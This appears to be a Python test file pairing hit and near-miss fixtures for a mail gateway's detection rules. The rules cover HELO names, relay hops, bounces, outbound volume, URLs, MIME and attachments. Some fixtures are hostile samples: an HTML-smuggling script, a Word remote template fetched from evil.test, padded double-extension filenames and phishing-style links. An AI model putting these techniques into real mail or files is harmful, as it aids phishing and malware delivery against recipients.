"""Hits and near misses of what tells how a mail came here: greeting, hops, numbers, names, bounces, and links' ways."""

from dataclasses import replace
from ipaddress import ip_address
from typing import Any

from gateway.envelope import Envelope
from gateway.mailauth.results import AuthResults, IprevResult, SpfResult
from gateway.pipeline.facts import DataFacts
from gateway.reputation.sending import Sending, Sums
from tests.gateway.checks.golden import SHARED, Make, attached, known, link, text, zipped
from tests.support.facts import authenticated, envelope, facts, html_mail, mail

CID = "QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWKAvPc"


def greeted(helo: str, ip: str = "192.0.2.7", auth: AuthResults | None = None) -> DataFacts:
    sent = envelope()
    peer = replace(sent.peer, helo=helo, ip=ip_address(ip))
    return facts(mail(), envelope=replace(sent, peer=peer), auth=auth or AuthResults())


def named(host: str) -> DataFacts:
    return greeted("mx.shop.example", auth=AuthResults(iprev=IprevResult("pass", host)))


def files(count: int) -> DataFacts:
    part = "--b\nContent-Disposition: attachment; filename=figures.csv\n\n1;2\n"
    octets = mail(part * count + "--b--", MIME_Version="1.0", Content_Type='multipart/mixed; boundary="b"')
    return facts(octets)


def hop(date: str, by: str = "b.test") -> str:
    return f"from a.test ([192.0.2.30]) by {by}; {date}"


def bounce(returned_id: str, mail_from: str | None = None) -> DataFacts:
    body = (
        "--b\nContent-Type: text/plain\n\nYour mail could not be delivered.\n--b\n"
        "Content-Type: message/delivery-status\n\nReporting-MTA: dns; mx.test\n\n"
        "Final-Recipient: rfc822; x@mx.test\nAction: failed\nStatus: 5.1.1\n\n--b\n"
        f"Content-Type: text/rfc822-headers\n\nFrom: maria@example.com\nMessage-ID: {returned_id}\n\n--b--"
    )
    octets = mail(
        body,
        From="MAILER-DAEMON@mx.test",
        Subject="Undelivered Mail Returned to Sender",
        MIME_Version="1.0",
        Content_Type='multipart/report; report-type=delivery-status; boundary="b"',
    )
    return facts(octets, envelope=envelope(mail_from))


def marked(state: str, facts_: DataFacts) -> DataFacts:
    """The same, sent to a domain that signs its return paths."""
    to = tuple(replace(recipient, return_path=state) for recipient in facts_.envelope.rcpt_to)
    return replace(facts_, envelope=replace(facts_.envelope, rcpt_to=to))


def sent(body: str = SHARED, /, **sending: Any) -> DataFacts:
    """A mail of our own Maria's, and how she has been sending."""
    written = mail(body, From="Maria Koch <maria@example.com>", To="Ana Ruiz <ana@shop.example>")
    own = envelope("maria@example.com", "ana@shop.example")
    own = replace(own, peer=replace(own.peer, user="maria@example.com"))
    return facts(written, envelope=own, sending=Sending(1, **{"recipients": 1, "outside": 1, **sending}))


def null_sender(**fields: str) -> DataFacts:
    return facts(mail(SHARED, **fields), envelope=envelope(None))


def to_readers(*rcpt: str) -> Envelope:
    return envelope("ana@shop.example", *rcpt)


def office(target: str, kind: str) -> bytes:
    relation = (
        '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    names = ("[Content_Types].xml", "word/document.xml", "word/_rels/settings.xml.rels")
    return zipped(*names, inner=relation.encode())


SMUGGLED = (
    b"<html><body><script>var b=atob('UEsDBBQ');var u=URL.createObjectURL(new Blob([b]));"
    b"var a=document.createElement('a');a.href=u;a.download='invoice.zip';a.click();"
    b"eval(unescape('%3Cb'))</script></body></html>"
)
CHART = b"<html><body><script>const rows=[1,2,3];draw(rows)</script><p>Sales by month</p></body></html>"

HITS: dict[str, Make] = {
    "history.foreign-reply": lambda: known(is_foreign_reply=True),
    "campaign.near-trap": lambda: known(near_trap=True),
    "campaign.widespread": lambda: known(strangers=6),
    "flood.sign-ups": lambda: known(seen=0, flood=40),
    "connection.helo-bare-ip": lambda: greeted("198.51.100.9"),
    "connection.helo-unqualified": lambda: greeted("DESKTOP-4711"),
    "connection.helo-malformed": lambda: greeted("mail.shop.example;id"),
    "connection.helo-claimed": lambda: greeted("mail.example.com"),
    "connection.generic-name": lambda: named("host-192-0-2-7.dynamic.isp.example"),
    "received.direct": lambda: text("Hi", X_Mailer="Microsoft Outlook 16.0"),
    "received.illegal-characters": lambda: facts(
        mail(Received="from a.test (@) by b.test").encode().replace(b"(@)", b"(\x01\xff)")
    ),
    "received.helo-user": lambda: text("Hi", Received="from User ([198.51.100.4]) by b.test"),
    "received.time-travel": lambda: text("Hi", Received=hop("Wed, 4 Mar 2026 20:00:00 +0000")),
    "message_id.of-recipient": lambda: text("Hi", Message_ID="<1@mail.example.com>"),
    "message_id.bare-ip": lambda: text("Hi", Message_ID="<1@192.0.2.9>"),
    "message_id.holds-recipient": lambda: text("Hi", Message_ID="<x.maria@example.com>"),
    "header.needless-encoding": lambda: text("Hi", Subject="=?utf-8?B?WW91ciBtYWlsYm94?="),
    "header.undisclosed": lambda: text("Hi", To="undisclosed-recipients:;"),
    "header.receipt-elsewhere": lambda: text("Hi", Disposition_Notification_To="x@evil.test"),
    "sender.addressed-to-itself": lambda: text("Hi", To="ana@shop.example"),
    "display_name.recipient": lambda: text("Hi", From='"example.com" <x@evil.test>'),
    "url.invisible": lambda: link("https://evil\u200b.test/x"),
    "url.web3-gateway": lambda: link(f"https://gate.test/ipfs/{CID}"),
    "url.borrowed-host": lambda: link("https://evil-test.translate.goog/login"),
    "url.redirect-chain": lambda: link(
        "https://a.test/go?u=https%3A%2F%2Fb.example%2Fr%3Fu%3Dhttps%253A%252F%252Fc.org"
    ),
    "url.hacked-site": lambda: link("https://garden.test/wp-includes/css/x/index.html"),
    "url.onion": lambda: link("http://abcdefghijklmnop.onion/pay"),
    "url.download": lambda: link("https://files.test/plan/Setup.exe"),
    "url.brand-in-path": lambda: link("https://evil.test/docusign/signin.php"),
    "bounce.ours": lambda: bounce("<20260302.1@example.com>"),
    "bounce.backscatter": lambda: bounce("<20260302.1@botnet.test>"),
    "bounce.no-report": null_sender,
    "bounce.signed": lambda: marked("signed", bounce("<1@relay.test>")),
    "bounce.unsigned": lambda: marked("unsigned", bounce("<20260302.1@example.com>")),
    "bounce.forbidden": lambda: marked("strict", bounce("<20260302.1@example.com>")),
    "outbound.rise": lambda: sent(recipients=1, hour=Sums(1, sent=79), usual_peak=20),
    "outbound.new-recipients": lambda: sent(new=20, recipients=20, today=Sums(1, sent=10, new=10)),
    "outbound.failing": lambda: sent(failed=8, today=Sums(1, sent=20, failed=8)),
    "outbound.new-network": lambda: sent(is_new_network=True),
    "outbound.many-networks": lambda: sent(networks_now=4),
    "outbound.same-mail": lambda: sent(same_text=49),
    "outbound.steady": lambda: sent(active_days=10, mails=30),
    "bounce.imitation": lambda: text(
        "Release it: https://evil.test/x", From="Mail Delivery System <x@evil.test>", Subject="Delivery failed"
    ),
    "subject.url": lambda: text("Hi", Subject="look at http://evil.test/x now"),
    "subject.recipient-domain": lambda: text("Hi", Subject="example.com mailbox almost full"),
    "mime.false-7bit": lambda: text(
        "Grüße", MIME_Version="1.0", Content_Type="text/plain; charset=utf-8", Content_Transfer_Encoding="7bit"
    ),
    "mime.false-encrypted": lambda: text(
        "--b\nContent-Type: text/html\n\n<p>x</p>\n--b--",
        MIME_Version="1.0",
        Content_Type='multipart/encrypted; boundary="b"',
    ),
    "html.base-elsewhere": lambda: facts(
        html_mail("<head><base href='https://evil.test/'></head><a href='login'>in</a>")
    ),
    "attachment.remote-template": lambda: attached(
        "offer.docx", office("https://evil.test/t.dotm", "attachedTemplate")
    ),
    "attachment.smuggling": lambda: attached("invoice.html", SMUGGLED, "text/html"),
    "attachment.rare-archive": lambda: attached("invoice.ace", b"x" * 100),
    "attachment.unopened": lambda: files(70),
    "attachment.padded-name": lambda: attached("invoice.pdf" + " " * 40 + ".zip", zipped("a.txt")),
}

MISSES: dict[str, Make] = {
    "history.foreign-reply": lambda: replace(known(is_foreign_reply=True, ham=3), auth=authenticated("shop.example")),
    "campaign.near-trap": lambda: known(near_trap=True, trap_campaign=True),
    "campaign.widespread": lambda: replace(known(strangers=6), auth=authenticated("shop.example")),
    "flood.sign-ups": lambda: known(seen=4, flood=40),
    "connection.helo-bare-ip": lambda: greeted("[198.51.100.9]"),
    "connection.helo-unqualified": lambda: greeted("DESKTOP-4711", "192.168.1.20"),
    "connection.helo-malformed": lambda: greeted("mail_out-1.shop.example."),
    "connection.helo-claimed": lambda: greeted(
        "mail.example.com", auth=AuthResults(spf_helo=SpfResult("pass", "mail.example.com", "helo"))
    ),
    "connection.generic-name": lambda: named("mail-192-0-2-7.shop.example"),
    "received.direct": lambda: text(
        "Hi", X_Mailer="Microsoft Outlook 16.0", Received=hop("Mon, 2 Mar 2026 08:59:30 +0000")
    ),
    "received.illegal-characters": lambda: text("Hi", Received="from a.test by b.test for <jürgen@example.com>"),
    "received.helo-user": lambda: text("Hi", Received="from user.shop.example ([198.51.100.4]) by b.test"),
    "received.time-travel": lambda: text("Hi", Received=hop("Tue, 3 Mar 2026 08:00:00 +0000")),
    "message_id.of-recipient": lambda: text("Hi", Message_ID="<1@mail.example.com>", List_Id="<g.example.org>"),
    "message_id.bare-ip": lambda: text("Hi", Message_ID="<1@[192.0.2.9]>"),
    "message_id.holds-recipient": lambda: text("Hi", Message_ID="<maria@mail.shop.example>"),
    "header.needless-encoding": lambda: text("Hi", Subject="=?utf-8?B?R3LDvMOfZQ==?="),
    "header.undisclosed": lambda: text("Hi", To="Team: maria@example.com, ben@example.com;"),
    "header.receipt-elsewhere": lambda: text("Hi", Disposition_Notification_To="ana@mail.shop.example"),
    "sender.addressed-to-itself": lambda: facts(mail("Hi", To="ana@shop.example"), auth=authenticated("shop.example")),
    "display_name.recipient": lambda: text("Hi", From="Maria <m.koch@shop.example>"),
    "url.invisible": lambda: link("https://shop.example/größe"),
    "url.web3-gateway": lambda: link("https://blog.test/ipfs/how-it-works"),
    "url.borrowed-host": lambda: link("https://translate.google.com/about"),
    "url.redirect-chain": lambda: link(
        "https://a.test/go?u=https%3A%2F%2Fwww.a.test%2Fr%3Fu%3Dhttps%253A%252F%252Fb.org"
    ),
    "url.hacked-site": lambda: link("https://garden.test/wp-content/uploads/2026/plan.pdf"),
    "url.onion": lambda: link("https://onion.recipes.test/soup"),
    "url.download": lambda: link("https://dl.shop.example/Setup.exe"),
    "url.brand-in-path": lambda: link("https://news.test/paypal/quarterly-results"),
    "bounce.ours": lambda: bounce("<20260302.1@example.com.evil.test>"),
    "bounce.backscatter": lambda: bounce("<20260302.1@mail.example.com>"),
    "bounce.no-report": lambda: null_sender(Auto_Submitted="auto-replied"),
    "bounce.signed": lambda: marked("unsigned", bounce("<20260302.1@example.com>")),
    "bounce.unsigned": lambda: marked("unsigned", null_sender(Auto_Submitted="auto-replied")),
    "bounce.forbidden": lambda: marked("unsigned", bounce("<20260302.1@example.com>")),
    "outbound.rise": lambda: sent(recipients=1, hour=Sums(1, sent=78), usual_peak=20),
    "outbound.new-recipients": lambda: sent(new=20, recipients=20, today=Sums(1, sent=40, new=10)),
    "outbound.failing": lambda: sent(failed=8, today=Sums(1, sent=60, failed=8)),
    "outbound.new-network": lambda: sent(is_new_network=False),
    "outbound.many-networks": lambda: sent(networks_now=3),
    "outbound.same-mail": lambda: sent(same_text=48),
    "outbound.steady": lambda: sent(active_days=10, mails=30, today=Sums(1, unwanted=1)),
    "bounce.imitation": lambda: text("See https://shop.example/x", Subject="Delivery failed, new date for your sofa"),
    "subject.url": lambda: text("Hi", Subject="The www and http: a history"),
    "subject.recipient-domain": lambda: facts(
        mail("Hi", Subject="example.com expires in 30 days"), auth=authenticated("shop.example")
    ),
    "mime.false-7bit": lambda: text(
        "Grüße", MIME_Version="1.0", Content_Type="text/plain; charset=utf-8", Content_Transfer_Encoding="8bit"
    ),
    "mime.false-encrypted": lambda: text(
        "--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b\n"
        "Content-Type: application/octet-stream\n\nxyz\n--b--",
        MIME_Version="1.0",
        Content_Type='multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"',
    ),
    "html.base-elsewhere": lambda: facts(html_mail("<head><base href='https://www.shop.example/'></head><p>Hi</p>")),
    "attachment.remote-template": lambda: attached("offer.docx", office("https://shop.example/", "hyperlink")),
    "attachment.smuggling": lambda: attached("chart.html", CHART, "text/html"),
    "attachment.rare-archive": lambda: attached("invoice.zip", zipped("a.txt")),
    "attachment.unopened": lambda: files(40),
    "attachment.padded-name": lambda: attached("Minutes  of the   meeting.pdf", b"%PDF-1.7\n"),
}
